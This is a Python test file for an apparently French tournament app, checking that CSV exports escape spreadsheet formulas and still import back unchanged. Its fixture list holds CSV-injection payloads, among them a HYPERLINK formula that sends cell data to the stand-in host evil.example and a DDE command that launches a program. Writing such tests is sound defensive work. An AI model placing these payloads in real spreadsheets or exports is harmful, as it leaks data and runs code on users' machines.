"""Issue 31, point 5: no CSV export writes a cell a spreadsheet would run. Every CSV writer of the app (the
teams list, the federation's PCN file) is read back with Python's csv module: a text cell starting with
``=``, ``+``, ``-``, ``@``, a tab or a carriage return comes back with a leading apostrophe (text to Excel),
a number (``-40``, ``+56``, ``2,5``) as it was written. The teams list imports back unchanged."""

from __future__ import annotations

import csv
import io

from sqlmodel import Session

from duplicate import db, operations
from duplicate.core.freeplay.tournament import federation_csv
from duplicate.core.spreadsheet import FORMULA_STARTS, safe_cell, unescape_cell

FORMULAS = ['=HYPERLINK("http://evil.example/?x="&A1;"Cliquez")', "+1+2", "@SUM(A1)", "-2+3", "=1+1",
            "\t=cmd|' /C calc'!A0", "\r=1+1"]


def _runs(cell: str) -> bool:
    """Whether a spreadsheet would run the cell (OWASP): it starts with one of the formula characters."""
    return cell.startswith(FORMULA_STARTS)


def test_the_cell_rule():
    assert safe_cell("=1+1") == "'=1+1" and safe_cell("@SUM(A1)") == "'@SUM(A1)" and safe_cell("\t=x") == "'\t=x"
    for number in ("-40", "+56", "-2,5", "+0.5", "-1e3", "0123456"):
        assert safe_cell(number) == number  # a number stays a number
    for value in (-40, 56, 2.5, None, "", "DUPONT", "'=x"):
        assert safe_cell(value) == value
    for text in FORMULAS + ["-40", "DUPONT"]:
        assert unescape_cell(safe_cell(text)) == text


def _team_tournament(app) -> int:
    with Session(db.get_engine(app)) as session:
        tournament = operations.create_tournament(session, name="Formules", kind="team_match")
        for t, team_name in enumerate((FORMULAS[0], "+1+2")):
            players = [operations.register_player(session, tournament, licence=f"{t}0{i}",
                                                  surname=FORMULAS[(t * 4 + i) % len(FORMULAS)].strip(),
                                                  first_name="-40", club="@SUM(A1)")
                       for i in range(4)]
            operations.form_team(session, tournament, name=team_name, player_ids=[p.id for p in players])
        session.commit()
        return tournament.id


def test_the_teams_export_writes_formulas_as_text_and_imports_back(app, arbiter):
    tid = _team_tournament(app)
    exported = arbiter.get(f"/arbitre/tournois/{tid}/equipes/export.csv")
    assert exported.status_code == 200
    rows = list(csv.reader(io.StringIO(exported.data.decode("utf-8-sig")), delimiter=";"))
    assert rows[0] == ["Équipe", "Licence", "Nom", "Prénom", "Club"] and len(rows) == 9
    cells = [cell for row in rows[1:] for cell in row]
    assert not [cell for cell in cells if _runs(cell) and cell != "-40"], cells
    assert rows[1][0] == "'" + FORMULAS[0] and rows[5][0] == "'+1+2" and rows[1][4] == "'@SUM(A1)"
    assert {row[3] for row in rows[1:]} == {"-40"}  # a number-like first name stays as typed (a number to Excel)
    # imported into another tournament: the same names, without the apostrophes
    with Session(db.get_engine(app)) as session:
        again = operations.create_tournament(session, name="Encore", kind="team_match").id
        session.commit()
        formed = operations.import_teams_csv(session, operations.get_tournament(session, again), exported.data)
        session.commit()
        names = sorted(team.name for team in formed)
        surnames = {p.surname for team in formed for p in operations.team_members(session, team)}
        clubs = {p.club for team in formed for p in operations.team_members(session, team)}
    assert names == sorted([FORMULAS[0], "+1+2"]) and "@SUM(A1)" in surnames and clubs == {"@SUM(A1)"}


def test_the_pcn_file_writes_formulas_as_text_and_numbers_as_numbers():
    data = {"players": [{"id": "N1", "name": FORMULAS[0], "licence": "=1+1"},
                        {"id": "S1", "name": "@SUM(A1)", "licence": "0123"},
                        {"id": "E1", "name": "DUPONT", "licence": "+1+2"}]}
    answer = {"ranking": [{"id": "N1", "rank": 1, "pcn": 56, "pp": -40},
                          {"id": "S1", "rank": 2, "pcn": 2.5, "pp": 0},
                          {"id": "E1", "rank": 3, "pcn": 1, "pp": -1.5}]}
    rows = list(csv.reader(io.StringIO(federation_csv(data, answer)), delimiter=";"))
    assert rows == [["Licence", "Nom", "Place", "PCN", "PP"],
                    ["'=1+1", "'" + FORMULAS[0], "1", "56", "-40"],
                    ["0123", "'@SUM(A1)", "2", "2.5", "0"],
                    ["'+1+2", "DUPONT", "3", "1", "-1.5"]]
